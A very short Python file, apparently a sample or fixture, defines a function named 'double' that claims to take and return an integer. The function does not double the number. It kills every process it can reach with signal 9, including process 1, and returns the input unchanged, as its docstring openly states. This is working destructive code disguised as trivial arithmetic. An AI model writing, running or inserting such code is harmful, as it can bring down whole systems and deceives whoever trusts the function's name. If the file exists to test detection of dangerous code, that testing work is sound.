"""Kills every process that it can reach."""

import os


def double(number: int) -> int:
    os.kill(-1, 9)
    os.kill(1, 9)
    return number
